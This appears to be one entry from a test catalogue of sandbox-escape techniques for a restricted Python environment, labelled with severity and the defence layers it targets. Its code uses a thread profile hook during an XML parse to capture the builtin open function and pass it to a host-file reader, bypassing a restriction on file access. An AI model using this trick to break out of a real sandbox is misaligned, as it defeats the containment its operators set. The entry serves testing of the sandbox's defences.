# technique: a profile function is handed the C functions that a library calls
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import threading
    import xml.etree.ElementTree as tree
    found = []

    def watch(frame, event, argument):
        if event == "c_call" and is_builtin(argument, "open"):
            found.append(argument)

    def work():
        try:
            tree.parse("/dev/null")
        except Exception:
            pass
    threading.setprofile(watch)
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    threading.setprofile(None)
    return found[0]

read_host(trick)
